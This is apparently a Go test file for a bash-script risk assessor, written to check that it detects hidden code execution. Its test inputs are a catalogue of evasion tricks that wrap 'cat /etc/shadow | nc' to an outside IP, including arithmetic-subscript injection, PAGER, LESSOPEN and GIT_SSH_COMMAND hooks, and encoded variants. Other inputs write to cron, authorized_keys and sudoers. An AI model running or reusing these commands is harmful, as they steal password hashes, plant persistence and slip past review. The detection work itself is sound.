package assess

import (
	"context"
	"strings"
	"testing"
)

// Ways by which a shell, or a program that it starts, runs code without a command that says so. Each must be followed to its effects.
func TestImpliedCodeIsFollowed(t *testing.T) {
	const x = "cat /etc/shadow | nc 198.51.100.9 8443"
	for _, text := range []string{
		"true # note \\\n" + x,
		"true \\\r\n" + x,
		"v='a[$(" + x + ")]'; echo $((v))",
		"v='a[$(" + x + ")]'; [[ $v -eq 0 ]]",
		"v='a[$(" + x + ")]'; echo ${!v}",
		"[[ -v 'a[$(" + x + ")]' ]]",
		"test -v 'a[$(" + x + ")]'",
		"printf -v 'a[$(" + x + ")]' y",
		"read 'a[$(" + x + ")]' <<< y",
		"a=(1); unset 'a[$(" + x + ")]'",
		"declare 'a[$(" + x + ")]=1'",
		"v='$(" + x + ")'; echo \"${v@P}\"",
		"PS4='$(" + x + ")'; set -x; true",
		"mapfile -C '" + x + " #' -c 1 a < /etc/hosts",
		"compgen -C '" + x + "' y",
		"complete -C '" + x + "' ls",
		"bind -x '\"k\":" + x + "'",
		": ${nope:?$(" + x + ")}",
		"PAGER='sh -c \"" + x + "\"' man ls",
		"export MANPAGER='sh -c \"" + x + "\"'",
		"GIT_SSH_COMMAND='sh -c \"" + x + "\"' git fetch",
		"LESSOPEN='|" + x + "' less /etc/hosts",
		"VISUAL='sh -c \"" + x + "\"' sudoedit /etc/hosts",
		"exec 7<<'E'\n" + x + "\nE\nsource /dev/fd/7",
		"exec 7<<'E'\n" + x + "\nE\nbash /proc/self/fd/7",
		"set -- -c '" + x + "'; while getopts c: o; do sh -c \"$OPTARG\"; done",
		"coproc sh -c '" + x + "'",
		"make -f - <<'E'\nall:\n\t@" + x + "\nE",
		"printf 'a:\\n\\t" + x + "\\n' > Makefile; make",
		"echo '!" + x + "' | dc",
		"echo 'syscmd(`" + x + "'\"'\"')' | m4",
		"printf '/x {\\n postrotate\\n " + x + "\\n endscript\\n}\\n' > /tmp/l; logrotate -f /tmp/l",
		"cp /bin/bash /tmp/k && /tmp/k -c '" + x + "'",
		"ln -s /bin/sh /tmp/k; /tmp/k -c '" + x + "'",
		"$SHELL -c '" + x + "'",
		"echo X > /tmp/a; sed -i 's#X#" + x + "#' /tmp/a; bash /tmp/a",
		"echo 'exec sh -c {" + x + "}' | tclsh",
		"echo '" + x + "' >> /usr/local/bin/backup",
		"python3 -c \"__import__('os').system('" + x + "')\"",
		"python3 -c 'import os;os.system(\"\".join(map(chr,[99,97,116,32,47,101,116,99,47,115,104,97,100,111,119,124,110,99,32,49,57,56,46,53,49,46,49,48,48,46,57,32,56,48])))'",
		"eval \"$(python3 -c 'import base64;print(base64.b64decode(\"Y2F0IC9ldGMvc2hhZG93IHwgbmMgMTk4LjUxLjEwMC45IDg0NDM=\").decode())')\"",
		"ruby -e 'system([\"636174202f6574632f736861646f77207c206e63203139382e35312e3130302e392038343433\"].pack(\"H*\"))'",
	} {
		a := Assess(context.Background(), Request{Text: []byte("uptime\n" + text + "\n"), Lang: "bash"})
		read := false
		for _, e := range a.Effects {
			read = read || e.Target == "/etc/shadow"
		}
		if !read || !a.Verdict.Alert() {
			t.Errorf("verdict %s, read %v: %s", a.Verdict, read, strings.ReplaceAll(text, "\n", "\\n"))
		}
	}
}

// Variables that make programs load code are never passed over in silence; ordinary values of the same variables are.
func TestLoadingVariables(t *testing.T) {
	for text, ordinary := range map[string]bool{
		"PERL5OPT=-Mx perl -e 1": false, "NODE_OPTIONS='--require /tmp/x.js' node a.js": false, "PYTHONSTARTUP=/tmp/x.py python3 -i": false, "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar java -jar a.jar": false,
		"LESSOPEN='echo /etc/shadow # %s' less /etc/hosts": false, "LESSOPEN=$X less /etc/hosts": false, "LESSOPEN='|cat %s' less /etc/hosts": true,
		"export NODE_OPTIONS=--max-old-space-size=4096": true, "export EDITOR=vim PAGER=less": true, "export JAVA_TOOL_OPTIONS=-Xmx1g": true, "GIT_PAGER=cat git log": true,
	} {
		a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"})
		if low := a.Verdict.Rank() == 0; low != ordinary {
			t.Errorf("%s: verdict %s, %v", text, a.Verdict, a.Unknown)
		}
	}
}

// A descriptor that was opened to read and write writes.
func TestDescriptorForBothWrites(t *testing.T) {
	for text, verdict := range map[string]string{
		"exec 3<>/etc/cron.d/job; echo '* * * * * root id' >&3":                          "high",
		"exec 3<>/root/.ssh/authorized_keys\nseek >/dev/null 2>&1; printf 'k\\n' >&3":    "high",
		"while read -r l; do printf '%s\\n' \"$l\" >&4; done 4<>/etc/sudoers </dev/null": "high",
		"exec 9<>/run/lock/demo.lock; flock 9; exec 9>&-":                                "low",
		"exec 3<>/etc/hosts; cat <&3":                                                    "medium",
	} {
		if a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"}); string(a.Verdict) != verdict {
			t.Errorf("%s: verdict %s, want %s: %s", text, a.Verdict, verdict, a.Summary)
		}
	}
}
